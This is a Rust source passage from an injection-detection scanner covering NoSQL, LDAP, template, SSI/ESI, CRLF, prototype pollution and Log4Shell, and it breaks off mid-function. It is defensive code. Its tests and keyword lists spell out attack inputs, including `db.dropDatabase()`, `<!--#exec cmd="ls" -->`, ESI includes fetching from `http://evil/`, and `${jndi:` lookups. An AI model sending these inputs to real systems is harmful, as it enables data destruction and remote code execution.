//! The smaller engines, each a bounded scanner for one grammar: NoSQL
//! operators and server-side JavaScript, LDAP filters, server-side
//! templates, server-side includes, CRLF / mail header injection, prototype
//! pollution, Log4Shell lookups (nested `${...}` resolved the way Log4j
//! does), serialized objects, Shellshock, PHP code and uploads, Java
//! (gadget classes, OGNL, class loader paths, EL), scanners, session
//! fixation and control characters.
//!
//! None of them backtracks: each is a single left-to-right scan with
//! bounded look-ahead, or an Aho-Corasick search.

use aho_corasick::AhoCorasick;

use crate::Sink;
use crate::ValueKind;
use crate::normalize::CharFlags;
use crate::rules;

// ── NoSQL ───────────────────────────────────────────────────────────────

const MONGO_OPERATORS: &[&str] = &[
    "ne",
    "eq",
    "gt",
    "gte",
    "lt",
    "lte",
    "in",
    "nin",
    "regex",
    "where",
    "exists",
    "expr",
    "or",
    "and",
    "not",
    "nor",
    "elemmatch",
    "type",
    "mod",
    "all",
    "size",
    "text",
    "function",
    "accumulator",
    "lookup",
    "jsonschema",
    "comment",
    "options",
    "search",
    "set",
    "unset",
    "push",
    "inc",
    "rename",
    "match",
    "project",
    "group",
    "merge",
    "out",
];

fn operator_at(s: &str) -> Option<usize> {
    let word_len = s.bytes().take_while(|b| b.is_ascii_alphabetic()).count();
    MONGO_OPERATORS
        .contains(&&s[..word_len])
        .then_some(word_len)
}

/// Field lookups of Django-style ORMs (`field__lookup`) that compare a
/// field's content: enough to read it one guess at a time.
const ORM_LOOKUPS: &[&str] = &[
    "exact",
    "iexact",
    "contains",
    "icontains",
    "in",
    "gt",
    "gte",
    "lt",
    "lte",
    "startswith",
    "istartswith",
    "endswith",
    "iendswith",
    "range",
    "regex",
    "iregex",
    "isnull",
    "has_key",
    "has_keys",
    "has_any_keys",
    "contained_by",
    "overlap",
];

/// An ORM filter that walks relations before its lookup
/// (`created_by__user__password__startswith`, `user__profile__icontains`):
/// a filter API that passes client names to `filter(**params)` lets it
/// reach fields of other models (password hashes, tokens) and leak them by
/// prefix. One field and a lookup (`price__gte`, `name__icontains`) is the
/// ordinary django-filter idiom and passes; so do Python dunders
/// (`__init__`). Read as tokens of `[a-z0-9_]`, so two separate keys of one
/// JSON text (`{"name__exact":"a","city__in":"b"}`) are never joined.
pub(crate) fn orm_relation_lookup(lower: &str, sink: &mut Sink<'_>) {
    let s = lower.as_bytes();
    let word = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_';
    let mut i = 0;
    while let Some(p) = crate::text::find(&lower[i..], "__") {
        let hit = i + p;
        let start = s[..hit]
            .iter()
            .rposition(|&b| !word(b))
            .map_or(0, |q| q + 1);
        let end = s[hit..]
            .iter()
            .position(|&b| !word(b))
            .map_or(s.len(), |q| hit + q);
        let token = &lower[start..end];
        let (mut parts, mut well_formed, mut lookup) = (0, true, "");
        for part in token.split("__") {
            parts += 1;
            well_formed &= !part.is_empty() && !part.starts_with('_') && !part.ends_with('_');
            lookup = part;
        }
        if well_formed
            && parts >= 3
            && token.starts_with(|c: char| c.is_ascii_lowercase())
            && ORM_LOOKUPS.contains(&lookup)
        {
            sink.report(&rules::NOSQL_ORM_RELATION, lower, start..end);
            return;
        }
        i = end.max(hit + 2);
    }
}

/// What every NoSQL report below needs, in one look at each `$`, `=`, `;`
/// and `.`: a `$` (both operator scans), a `;` followed past white space by
/// `return` (the `return` scan reports only where the text before it ends,
/// past white space, with `;`), `==` (the breakout test), `this.` or `db.`
/// (their scans start at one), or a value that starts, past white space,
/// with a quote or `;` (the quoted-statement and `sleep(` tests). Prose and
/// URLs (`en;q=0.9`, `a=b&c=d`, `Ltd.`) have none of them.
fn may_be_nosql(lower: &str) -> bool {
    let s = lower.as_bytes();
    lower.trim_start().starts_with(['\'', '"', ';'])
        || memchr::memchr3_iter(b'$', b'=', b';', s).any(|p| match s[p] {
            b'$' => true,
            b'=' => s.get(p + 1) == Some(&b'='),
            // (`;` is one byte: `p + 1` is a character boundary.)
            _ => lower[p + 1..].trim_start().starts_with("return"),
        })
        || memchr::memchr_iter(b'.', s).any(|p| {
            let before = &s[..p];
            before.ends_with(b"db") || before.ends_with(b"this")
        })
}

pub(crate) fn nosql(lower: &str, kind: ValueKind<'_>, sink: &mut Sink<'_>) {
    if !may_be_nosql(lower) {
        return;
    }
    if kind.is_name() {
        // `$ne` as a key, `user[$ne]` as a query or form name.
        for (p, _) in lower.match_indices('$') {
            let at_start = p == 0 || lower.as_bytes()[p - 1] == b'[';
            if at_start
                && let Some(len) = operator_at(&lower[p + 1..])
                && (p + 1 + len == lower.len() || lower.as_bytes()[p + 1 + len] == b']')
            {
                sink.report(&rules::NOSQL_OPERATOR, lower, p..p + 1 + len);
                return;
            }
        }
    }
    if lower.contains('$') {
        for (p, _) in lower.match_indices('$') {
            if p > 0 && lower.as_bytes()[p - 1].is_ascii_alphanumeric() {
                continue;
            }
            if let Some(len) = operator_at(&lower[p + 1..]) {
                let rest = lower[p + 1 + len..].trim_start_matches(['"', '\'', ' ']);
                let before = lower[..p].trim_end_matches(['"', '\'', ' ']);
                let in_object =
                    before.ends_with('{') || before.ends_with(',') || before.ends_with('[');
                if (rest.starts_with(':') && (in_object || p == 0 || len > 2))
                    || (rest.starts_with(']') && before.ends_with('['))
                {
                    sink.report(&rules::NOSQL_OPERATOR, lower, p..p + 1 + len);
                    break;
                }
            }
        }
    }
    // Server-side JavaScript in `$where` / mapReduce strings.
    let s = lower.as_bytes();
    for (p, _) in crate::text::find_iter(lower, "return") {
        let before = lower[..p].trim_end();
        let after = lower[p + 6..].trim_start();
        if before.ends_with(';')
            && (after.starts_with('(')
                || after.starts_with("true")
                || after.starts_with('\'')
                || after.starts_with('"')
                || after.starts_with('1')
                || after.starts_with("this")
                || after.starts_with("!"))
        {
            sink.report(&rules::NOSQL_JS, lower, p..(p + 20).min(lower.len()));
            return;
        }
    }
    for (p, _) in crate::text::find_iter(lower, "this.") {
        let rest = &lower[p + 5..];
        let name_len = rest
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        let after = rest[name_len..].trim_start();
        if name_len > 0
            && (after.starts_with(".match(")
                || after.starts_with("==")
                || after.starts_with("!=")
                || after.starts_with(".length")
                || after.starts_with(".indexof(")
                || after.starts_with("["))
        {
            sink.report(
                &rules::NOSQL_JS,
                lower,
                p..(p + 5 + name_len + 8).min(lower.len()),
            );
            return;
        }
    }
    // `db.users.find(`, `db.x.insert({...})`: a shell command against the database.
    if let Some(p) = crate::text::find(lower, "db.") {
        let rest = &lower[p + 3..];
        let coll = rest
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        let after = &rest[coll..];
        // `db.getCollectionNames()`, `db.dropDatabase()`: a call on the
        // database object itself, `db` a whole word.
        let word_start = p == 0 || !(s[p - 1].is_ascii_alphanumeric() || s[p - 1] == b'_');
        let database_call = word_start
            && [
                "getcollectionnames(",
                "getcollectioninfos(",
                "getcollection(",
                "dropdatabase(",
                "getsiblingdb(",
                "runcommand(",
                "admincommand(",
                "eval(",
                "createuser(",
                "getusers(",
                "serverstatus(",
            ]
            .iter()
            .any(|m| rest.starts_with(m));
        if database_call
            || coll > 0
                && [
                    "find(",
                    "insert(",
                    "remove(",
                    "update(",
                    "drop(",
                    "aggregate(",
                    "deletemany(",
                    "deleteone(",
                    "insertone(",
                    "insertmany(",
                    "updateone(",
                    "updatemany(",
                    "replaceone(",
                    "findone(",
                    "findoneandupdate(",
                    "findoneanddelete(",
                    "mapreduce(",
                    "distinct(",
                    "renamecollection(",
                ]
                .iter()
                .any(|m| after.strip_prefix('.').is_some_and(|a| a.starts_with(m)))
        {
            sink.report(
                &rules::NOSQL_JS,
                lower,
                p..(p + 3 + coll + 10).min(lower.len()),
            );
            return;
        }
    }
    // `';it=new Date();do{...}while(...)`: a quote closed, then JavaScript statements.
    let t = lower.trim_start();
    if t.starts_with(['\'', '"'])
        && t[1..].trim_start().starts_with(';')
        && t.contains('(')
        && (crate::text::contains(t, "while(")
            || crate::text::contains(t, "new date")
            || crate::text::contains(t, "function")
            || crate::text::contains(t, "var ")
            || crate::text::contains(t, "sleep("))
    {
        sink.report(&rules::NOSQL_JS, lower, 0..t.len().min(48));
        return;
    }
    // `' && ...==`, `|| 1==1`, `';sleep(5000);'`: string breakout into JavaScript.
    if crate::text::contains(lower, "==")
        && (crate::text::contains(lower, "||") || crate::text::contains(lower, "&&"))
    {
        let quoted_breakout = lower.trim_start().starts_with(['\'', '"'])
            || crate::text::contains(lower, "'==")
            || crate::text::contains(lower, "\"==");
        let numeric = crate::text::contains(lower, "1==1")
            || crate::text::contains(lower, "1 == 1")
            || crate::text::contains(lower, "true==true");
        if quoted_breakout || numeric {
            sink.report(&rules::NOSQL_JS, lower, 0..lower.len().min(48));
            return;
        }
    }
    if let Some(p) = crate::text::find(lower, "sleep(")
        && s[..p]
            .iter()
            .rev()
            .find(|b| !b.is_ascii_whitespace())
            .is_some_and(|b| matches!(b, b';' | b'\'' | b'"'))
        && lower.trim_start().starts_with(['\'', '"', ';'])
    {
        sink.report(&rules::NOSQL_JS, lower, p..(p + 12).min(lower.len()));
    }
}

#[cfg(test)]
mod nosql_tests {
    use crate::tests::{assert_clean, assert_detects};

    /// MongoDB shell calls reach the engine without any of the operator
    /// characters (the dispatcher's `db.` gate literal).
    #[test]
    fn mongo_shell_calls() {
        for attack in [
            "db.users.find({})",
            "db.users.drop()",
            "db.injection.remove({})",
            "db.getCollectionNames()",
            "db.dropDatabase()",
            "db.accounts.updateMany({}, {x: 1})",
            "x=db.getSiblingDB('admin')",
            "db.injection.insert({success:1});",
        ] {
            assert_detects(attack, "nosql.js_injection");
        }
        for benign in [
            "db.example.com",
            "mydb.sqlite",
            "see db.users for the schema",
            "db.users",
            "db.getcollectionnames is documented here",
            "mongodb.eval is deprecated",
        ] {
            assert_clean(benign);
        }
    }
}

// ── LDAP ────────────────────────────────────────────────────────────────

fn attribute_assertion(s: &[u8]) -> bool {
    let mut i = 0;
    while i < s.len() && (s[i].is_ascii_alphanumeric() || matches!(s[i], b'-' | b'.' | b';' | b'_'))
    {
        i += 1;
    }
    if i == 0 {
        return false;
    }
    while i < s.len() && s[i] == b' ' {
        i += 1;
    }
    if matches!(s.get(i), Some(b'~' | b'<' | b'>')) {
        i += 1;
    }
    s.get(i) == Some(&b'=')
}

/// A value that is itself one well-formed filter (`(&(a=b)(c=d))`):
/// what an LDAP-backed search form legitimately sends.
fn whole_filter(t: &str) -> bool {
    if !t.starts_with('(') || !t.ends_with(')') {
        return false;
    }
    let mut depth = 0i32;
    for (i, b) in t.bytes().enumerate() {
        match b {
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 && i + 1 != t.len() && !t[i + 1..].trim_start().starts_with('(') {
                    return false;
                }
            }
            _ => {}
        }
        if depth < 0 {
            return false;
        }
    }
    depth == 0
}

/// What every LDAP report below needs, in one look at each parenthesis: a
/// `*` (`*(|`, `*()&`, a leading `*)`), a `)` followed by an operator
/// (`)&(`) or, past blanks (spaces and tabs), by `(` (`)(`, `) (`), or a
/// `(` followed by an operator (`(|(`). Prose parentheses (`(555) 010`,
/// `(50% off?).`) have none.
fn may_break_out_of_filter(s: &[u8]) -> bool {
    memchr::memchr(b'*', s).is_some()
        || memchr::memchr2_iter(b'(', b')', s).any(|p| match (s[p], s.get(p + 1)) {
            (b'(', next) => matches!(next, Some(b'&' | b'|' | b'!')),
            (_, Some(b'&' | b'|' | b'!')) => true,
            _ => {
                let blanks = s[p + 1..]
                    .iter()
                    .take_while(|b| matches!(b, b' ' | b'\t'))
                    .count();
                s.get(p + 1 + blanks) == Some(&b'(')
            }
        })
}

pub(crate) fn ldap(lower: &str, sink: &mut Sink<'_>) {
    if !may_break_out_of_filter(lower.as_bytes()) || whole_filter(lower.trim()) {
        return;
    }
    let s = lower.as_bytes();
    for (p, _) in crate::text::find_iter(lower, ")(") {
        let mut k = p + 2;
        while matches!(s.get(k), Some(b' ' | b'(')) {
            k += 1;
        }
        let op = matches!(s.get(k), Some(b'|' | b'&' | b'!'));
        if op || attribute_assertion(&s[k..]) {
            sink.report(
                &rules::LDAP_FILTER,
                lower,
                p.saturating_sub(8)..(p + 16).min(s.len()),
            );
            return;
        }
    }
    // `test) ( & `, `x)\t(\t|`: the same break-out with blanks between
    // the parentheses and the operator (LDAP servers skip them).
    for p in memchr::memchr_iter(b')', s) {
        let blank = |b: &u8| matches!(b, b' ' | b'\t');
        let mut k = p + 1;
        let gap_start = k;
        while s.get(k).is_some_and(blank) {
            k += 1;
        }
        if k == gap_start || s.get(k) != Some(&b'(') {
            continue;
        }
        k += 1;
        while s.get(k).is_some_and(blank) {
            k += 1;
        }
        if !matches!(s.get(k), Some(b'|' | b'&' | b'!')) {
            continue;
        }
        let next = s[k + 1..].iter().find(|b| !blank(b));
        if next != Some(&b')') {
            sink.report(&rules::LDAP_FILTER, lower, p..(p + 16).min(s.len()));
            return;
        }
    }
    // `val)&(cn=admin`, `x)|(uid=*`: the value's filter closed, then
    // combined with a filter of the attacker's.
    for op in [")&(", ")|(", ")!("] {
        if let Some(p) = crate::text::find(lower, op)
            && attribute_assertion(&s[p + 3..])
        {
            sink.report(&rules::LDAP_FILTER, lower, p..(p + 16).min(s.len()));
            return;
        }
    }
    for op in ["(|(", "(&(", "(!("] {
        if let Some(p) = crate::text::find(lower, op)
            && attribute_assertion(&s[p + 3..])
        {
            sink.report(&rules::LDAP_FILTER, lower, p..(p + 16).min(s.len()));
            return;
        }
    }
    let t = lower.trim();
    if crate::text::contains(t, "*()|")
        || crate::text::contains(t, "*()&")
        || crate::text::contains(t, "*(|")
        || crate::text::contains(t, "*(&")
    {
        sink.report(&rules::LDAP_FILTER, lower, 0..t.len().min(16));
        return;
    }
    if (t.starts_with("*)") || t.starts_with("*)(")) && t.len() > 2 {
        sink.report(&rules::LDAP_FILTER, lower, 0..t.len().min(16));
    }
}

// ── Server-side templates ───────────────────────────────────────────────

const TEMPLATE_STRONG: &[&str] = &[
    "__class__",
    "__mro__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__import__",
    "__init__",
    "__base__",
    "__bases__",
    "__getattribute__",
    ".mro(",
    "subclasses(",
    "config.",
    "config[",
    "self.",
    "self[",
    "request.",
    "request[",
    "lipsum",
    "cycler",
    "joiner",
    "namespace",
    "popen",
    "os.system",
    "system(",
    "exec(",
    "eval(",
    "getruntime",
    "runtime",
    "processbuilder",
    "t(java",
    "forname(",
    "getclass",
    "freemarker",
    "execute",
    "?new(",
    ".getclass",
    "import ",
    "|attr",
    "attr(",
    "|join",
    "['__",
    "[\"__",
    "_self",
    "env.",
    "getfilter",
    "registerundefinedfiltercallback",
    "file_get_contents",
    "passthru",
    "shell_exec",
    "get_user_file",
    "object.",
    "product.getclass",
    "class.",
    "java.lang",
    "new java",
    "include(",
    "range(",
    "dump(",
    "app.",
    "url_for",
    "get_flashed_messages",
    "application.",
    "settings.",
    "global.process",
    "process.mainmodule",
    "require(",
    "child_process",
    "constructor",
    "tostring",
    "concat(",
    "#set(",
    "#foreach",
    "$class",
    ".invoke(",
    "getmethod",
    "type.gettype",
    "system.diagnostics",
    "file.open",
    "io.popen",
    "`",
    "%x(",
    "open(",
    "read(",
    "sleep(",
    "/etc/",
];

fn arithmetic_probe(inner: &str) -> bool {
    let t = inner.trim().trim_matches(|c| c == '(' || c == ')');
    let mut digits = 0;
    let mut ops = 0;
    let mut numbers_seen = false;
    for b in t.bytes() {
        match b {
            b'0'..=b'9' => {
                if !numbers_seen {
                    digits += 1;
                }
                numbers_seen = true;
            }
            b'*' | b'+' | b'-' | b'/' | b'%' => {
                ops += 1;
                numbers_seen = false;
            }
            b' ' | b'(' | b')' | b'\'' | b'"' => {}
            _ => return false,
        }
    }
    ops >= 1 && digits >= 2
}

/// An identifier followed by `(`: a call inside a template expression.
fn has_call(inner: &str) -> bool {
    let s = inner.as_bytes();
    s.iter()
        .enumerate()
        .any(|(i, b)| *b == b'(' && i > 0 && (s[i - 1].is_ascii_alphanumeric() || s[i - 1] == b'_'))
}

pub(crate) fn ssti(lower: &str, sink: &mut Sink<'_>) {
    let delimiters: [(&str, &str); 9] = [
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("*{", "}"),
        ("<%=", "%>"),
        ("<%", "%>"),
        ("{%", "%}"),
        ("@(", ")"),
        ("[[", "]]"),
    ];
    for (open, close) in delimiters {
        let mut from = 0;
        let mut guard = 0;
        while let Some(p) = crate::text::find(&lower[from..], open) {
            guard += 1;
            if guard > 64 {
                break;
            }
            let start = from + p + open.len();
            let window = &lower[start..(start + 1024).min(lower.len())];
            let end = crate::text::find(window, close).map_or(start + window.len(), |e| start + e);
            let inner = &lower[start..end];
            from = end.max(start);
            let span = start - open.len()..(end + close.len()).min(lower.len());
            if open == "${"
                && (inner.starts_with("jndi")
                    || inner.starts_with("ifs")
                    || inner.starts_with("::-")
                    || inner.starts_with("lower:")
                    || inner.starts_with("upper:")
                    || inner.starts_with("env:"))
            {
                continue;
            }
            if open == "@("
                && !(arithmetic_probe(inner)
                    || TEMPLATE_STRONG
                        .iter()
                        .any(|k| crate::text::contains(inner, k)))
            {
                continue;
            }
            if open == "[[" && !arithmetic_probe(inner) && !has_call(inner) {
                continue;
            }
            if TEMPLATE_STRONG
                .iter()
                .any(|k| crate::text::contains(inner, k))
                && (open != "${"
                    || inner.contains('.')
                    || inner.contains('(')
                    || inner.contains('['))
            {
                sink.report(&rules::SSTI_EXPRESSION, lower, span);
                return;
            }
            let bare_object = matches!(
                inner.trim(),
                "self"
                    | "request"
                    | "config"
                    | "settings"
                    | "_self"
                    | "app"
                    | "env"
                    | "this"
                    | "g"
                    | "session"
            );
            if arithmetic_probe(inner)
                || (open == "${"
                    && inner.starts_with('{')
                    && arithmetic_probe(inner.trim_start_matches('{')))
                || (open == "{{" && bare_object)
            {
                sink.report(&rules::SSTI_PROBE, lower, span);
                continue;
            }
            if has_call(inner) && matches!(open, "{{" | "{%" | "<%=" | "<%" | "#{" | "*{") {
                sink.report(&rules::SSTI_EXPRESSION, lower, span);
                return;
            }
            // Control tags: `{% if %}`, and the ERB / JSP-style `<% if true %>`.
            if matches!(open, "{%" | "<%" | "<%=")
                && [
                    "import", "include", "debug", "load", "print", "set ", "for ", "if ",
                ]
                .iter()
                .any(|k| inner.trim_start().starts_with(k))
            {
                sink.report(&rules::SSTI_EXPRESSION, lower, span);
                return;
            }
        }
    }
    for tag in [
        "{$smarty",
        "{$_smarty",
        "<#assign",
        "<#if",
        "<#list",
        "[#assign",
        "<#import",
        "<#include",
        "#set(",
        "#foreach(",
        "{php}",
        "{system(",
        "{literal}",
    ] {
        if let Some(p) = crate::text::find(lower, tag) {
            sink.report(&rules::SSTI_EXPRESSION, lower, p..(p + 32).min(lower.len()));
            return;
        }
    }
}

// ── Server-side includes ────────────────────────────────────────────────

pub(crate) fn ssi(lower: &str, sink: &mut Sink<'_>) {
    // Edge Side Includes: the same attack one cache layer earlier.
    for (p, _) in crate::text::find_iter(lower, "<esi:") {
        let rest = &lower[p + 5..];
        if [
            "include", "debug", "vars", "inline", "choose", "when", "try", "assign", "eval",
            "remove", "comment",
        ]
        .iter()
        .any(|d| rest.starts_with(d))
        {
            sink.report(&rules::SSI_DIRECTIVE, lower, p..(p + 40).min(lower.len()));
            return;
        }
    }
    // `<!--esi $(HTTP_COOKIE) -->`: an ESI processor strips the comment
    // markers and runs what is inside; a browser shows nothing.
    for (p, _) in crate::text::find_iter(lower, "<!--esi") {
        if lower[p + 7..].starts_with(|c: char| c.is_ascii_whitespace() || c == '<' || c == '$') {
            sink.report(&rules::SSI_DIRECTIVE, lower, p..(p + 40).min(lower.len()));
            return;
        }
    }
    for (p, _) in crate::text::find_iter(lower, "<!--#") {
        let rest = lower[p + 5..].trim_start();
        if [
            "exec", "include", "echo", "config", "fsize", "flastmod", "printenv", "set", "if",
            "elif", "else", "endif",
        ]
        .iter()
        .any(|d| rest.starts_with(d))
        {
            sink.report(&rules::SSI_DIRECTIVE, lower, p..(p + 40).min(lower.len()));
            return;
        }
    }
}

#[cfg(test)]
mod ssi_tests {
    use crate::tests::{assert_clean, assert_detects};

    /// Edge Side Include tags and the ESI comment form reach the engine
    /// (the dispatcher's SSI gate lists `<esi:` and `<!--esi`).
    #[test]
    fn edge_side_includes() {
        for attack in [
            "<esi:include src=http://google.com/>",
            "<esi:include src=\"http://host/poc.xml\" dca=\"xslt\" stylesheet=\"http://x/poc.xsl\" />",
            "<esi:debug/>",
            "<ESI:vars>$(HTTP_COOKIE)</esi:vars>",
            "<esi:assign name=\"var1\" value=\"'x'\"/>",
            "x<esi:when test=\"$(HTTP_HOST)=='x'\">",
            "<!--esi $(HTTP_COOKIE) -->",
            "<!--esi<esi:include src=\"http://evil/\"/>-->",
            "%3Cesi%3Ainclude%20src%3D%22http%3A%2F%2Fevil%2F%22%2F%3E",
            "<!--#exec cmd=\"ls\" -->",
        ] {
            assert_detects(attack, "ssi.directive");
        }
        for benign in [
            "<esi> is our internal codename",
            "the esi:include tag is documented on the wiki",
            "<esim:item>",
            "<!--esimate-->",
            "<!-- comment -->",
            "our ESI cache (esi: edge side includes) is on",
        ] {
            assert_clean(benign);
        }
    }
}

// ── CRLF and mail headers ───────────────────────────────────────────────

/// Response headers an injected line break would set, each with the shape
/// its value must have (so "Location: Paris" in a review passes).
fn injected_header(rest: &str) -> Option<&'static rules::Rule> {
    let name_len = rest
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'-')
        .count();
    let name = &rest[..name_len];
    let after = rest[name_len..].trim_start_matches(' ');
    let value = after.strip_prefix(':')?.trim_start();
    let http = match name {
        "set-cookie" | "cookie" => value.contains('='),
        "location" | "content-location" | "refresh" => {
            value.starts_with("http")
                || value.starts_with("www.")
                || value.starts_with('/')
                || value.as_bytes().first().is_some_and(u8::is_ascii_digit)
                || value.starts_with("javascript")
        }
        "content-type" => value.contains('/'),
        "content-length" | "x-xss-protection" => {
            value.as_bytes().first().is_some_and(u8::is_ascii_digit)
        }
        "transfer-encoding" => value.starts_with("chunked"),
        "content-disposition" => value.starts_with("attachment") || value.starts_with("inline"),
        "access-control-allow-origin"
        | "access-control-allow-credentials"
        | "content-security-policy"
        | "strict-transport-security"
        | "x-forwarded-for"
        | "x-forwarded-host"
        | "x-frame-options"
        | "link"
        | "upgrade" => !value.is_empty(),
        "host" => !value.is_empty() && !value.contains(' '),
        "authorization" => value.starts_with("bearer") || value.starts_with("basic"),
        _ => false,
    };
    if http {
        return Some(&rules::CRLF_HEADER);
    }
    let mail = match name {
        "to" | "cc" | "bcc" | "from" | "reply-to" | "sender" | "return-path" => value.contains('@'),
        "mime-version" => value.starts_with('1'),
        "content-transfer-encoding" => !value.is_empty(),
        _ => false,
    };
    mail.then_some(&rules::CRLF_MAIL)
}

/// Whether `line` (a whole line, without its break) is an HTTP request
/// line: `METHOD /target HTTP/1.1`, the method possibly glued to text
/// before it (`barGET /a HTTP/1.1`: the body's first bytes end a request
/// the front end already counted).
fn request_line(line: &str) -> bool {
    let line = line.trim_end_matches('\r');
    let Some(head) = ["http/1.0", "http/1.1", "http/2", "http/2.0"]
        .iter()
        .find_map(|v| line.strip_suffix(v))
        .and_then(|h| h.strip_suffix(' '))
    else {
        return false;
    };
    let Some((method_part, target)) = head.rsplit_once(' ') else {
        return false;
    };
    (target.starts_with('/') || target.starts_with("http"))
        && [
            "get", "post", "put", "delete", "head", "options", "patch", "connect", "trace",
        ]
        .iter()
        .any(|m| method_part.ends_with(m))
}

pub(crate) fn crlf(lower: &str, sink: &mut Sink<'_>) {
    let s = lower.as_bytes();
    let mut last_report = None;
    let mut line_start = 0;
    for p in memchr::memchr2_iter(b'\r', b'\n', s) {
        let line = &lower[line_start..p];
        line_start = p + 1;
        if line.len() < 256 && request_line(line) {
            sink.report(
                &rules::CRLF_SPLITTING,
                lower,
                p.saturating_sub(line.len())..p,
            );
            break;
        }
        let mut k = p + 1;
        while k < s.len() && matches!(s[k], b'\r' | b'\n') {
            k += 1;
        }
        let window_end = (k + 6).min(s.len());
        for start in k..window_end {
            if !lower.is_char_boundary(start) {
                continue;
            }
            let rest = &lower[start..];
            if start > k && !s[start - 1].is_ascii_alphanumeric() && s[start - 1] != b'%' {
                // Junk between the break and the name is only skipped when it
                // is what a half-decoded escape leaves behind.
            }
            if let Some(rule) = injected_header(rest) {
                if last_report != Some(rule.id) {
                    sink.report(rule, lower, p..(start + 24).min(s.len()));
                    last_report = Some(rule.id);
                }
                break;
            }
            if rest.starts_with("http/1.") || rest.starts_with("http/2") {
                sink.report(&rules::CRLF_SPLITTING, lower, p..(start + 16).min(s.len()));
                break;
            }
            let method_len = rest.bytes().take_while(|b| b.is_ascii_alphabetic()).count();
            if matches!(
                &rest[..method_len],
                "get"
                    | "post"
                    | "put"
                    | "delete"
                    | "head"
                    | "options"
                    | "patch"
                    | "connect"
                    | "trace"
            ) && rest[method_len..].starts_with(" /")
                && rest[..rest.find(['\r', '\n']).unwrap_or(rest.len())].contains(" http/")
            {
                sink.report(&rules::CRLF_SPLITTING, lower, p..(start + 24).min(s.len()));
                break;
            }
            if start == k {
                continue;
            }
        }
    }
}

// ── Prototype pollution ─────────────────────────────────────────────────

pub(crate) fn prototype_pollution(lower: &str, kind: ValueKind<'_>, sink: &mut Sink<'_>) {
    if let Some(p) = crate::text::find(lower, "__proto__") {
        let after = lower.as_bytes().get(p + 9).copied();
        let key_like = kind.is_name()
            || matches!(after, Some(b'[' | b'.' | b'"' | b'\'' | b']'))
            || lower.trim() == "__proto__";
        if key_like {
            sink.report(&rules::PROTO_POLLUTION, lower, p..p + 9);
            return;
        }
    }
    for pattern in [
        "constructor[prototype]",
        "constructor.prototype",
        "constructor\"][\"prototype",
        "constructor']['prototype",
        "constructor][prototype",
    ] {
        if let Some(p) = crate::text::find(lower, pattern) {
            sink.report(&rules::PROTO_POLLUTION, lower, p..p + pattern.len());
            return;
        }
    }
    if let ValueKind::JsonKey { parent } = kind
        && lower == "prototype"
        && parent.eq_ignore_ascii_case("constructor")
    {
        sink.report(&rules::PROTO_POLLUTION, lower, 0..lower.len());
        return;
    }
    if let Some(span) = flight_reference_through_prototype(lower) {
        sink.report(&rules::PROTO_POLLUTION, lower, span);
    }
}

/// A React Server Components (Flight) reference, `$<hex id>:<name>:<name>...`,
/// whose path walks the prototype chain (`$1:__proto__:then`,
/// `$7:Module:prototype:_compile`, `$1:constructor:constructor`): the
/// decoder reads each name as a property, so such a path reaches
/// `Function` and runs code (CVE-2025-55182). Ordinary references name
/// model fields (`$2:then`, `$b:map`) and pass.
fn flight_reference_through_prototype(lower: &str) -> Option<std::ops::Range<usize>> {
    let s = lower.as_bytes();
    for (p, _) in lower.match_indices('$') {
        let id = s[p + 1..]
            .iter()
            .take_while(|b| b.is_ascii_hexdigit())
            .count();
        if id == 0 || s.get(p + 1 + id) != Some(&b':') {
            continue;
        }
        let path_start = p + 2 + id;
        // (Bounded, so a value of many `$1:` stays linear.)
        let path_len = s[path_start..]
            .iter()
            .take(128)
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b':' | b'$'))
            .count();
        let path = &lower[path_start..path_start + path_len];
        if path
            .split(':')
            .any(|name| matches!(name, "__proto__" | "prototype" | "constructor"))
        {
            return Some(p..path_start + path_len);
        }
    }
    None
}

// ── Log4Shell ───────────────────────────────────────────────────────────

/// Resolves Log4j lookups that only rewrite text (`${lower:j}`,
/// `${::-n}`, `${env:X:-d}`, `${date:'i'}`) and keeps the others, so a
/// `${jndi:` hidden behind them appears. Bounded depth and output.
fn resolve_lookups(lower: &str, out: &mut String) {
    out.clear();
    let mut stack: Vec<String> = Vec::new();
    let s = lower.as_bytes();
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'$' && s.get(i + 1) == Some(&b'{') && stack.len() < 16 {
            stack.push(String::new());
            i += 2;
            continue;
        }
        if s[i] == b'}'
            && let Some(inner) = stack.pop()
        {
            let replacement = if let Some(p) = crate::text::find(&inner, ":-") {
                inner[p + 2..].to_owned()
            } else if let Some(rest) = inner
                .strip_prefix("lower:")
                .or_else(|| inner.strip_prefix("upper:"))
            {
                rest.to_owned()
            } else if let Some(rest) = inner.strip_prefix("date:") {
                rest.trim_matches('\'').to_owned()
            } else {
                format!("${{{inner}}}")
            };
            match stack.last_mut() {
                Some(parent) => parent.push_str(&replacement),
                None => out.push_str(&replacement),
            }
            i += 1;
            continue;
        }
        let ch_end = (i + 1..=s.len())
            .find(|e| lower.is_char_boundary(*e))
            .unwrap_or(s.len());
        match stack.last_mut() {
            Some(buf) if buf.len() < 4096 => buf.push_str(&lower[i..ch_end]),
            Some(_) => {}
            None => out.push_str(&lower[i..ch_end]),
        }
        i = ch_end;
    }
    for inner in stack {
        out.push_str("${");
        out.push_str(&inner);
    }
}

pub(crate) fn jndi(lower: &str, scratch: &mut String, sink: &mut Sink<'_>) {
    resolve_lookups(lower, scratch);
    for (p, _) in crate::text::find_iter(scratch, "${jndi:") {
        let rest = &scratch[p + 7..];
        if [
            "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "https", "${",
        ]
        .iter()
        .any(|s| rest.starts_with(s))
        {
            sink.report(&rules::JNDI_LOOKUP, lower, 0..lower.len().min(64));
            return;
        }
    }
    if let Some(p) = crate::text::find(lower, "jndi:")
        && lower[..p].contains("${")
    {
        sink.report(&rules::JNDI_LOOKUP, lower, p..(p + 24).min(lower.len()));
    }
}

// ── Serialized objects ──────────────────────────────────────────────────

fn php_serialized(text: &str) -> Option<usize> {
    let s = text.as_bytes();
    for (p, _) in crate::text::find_iter(text, ":") {
        if p == 0
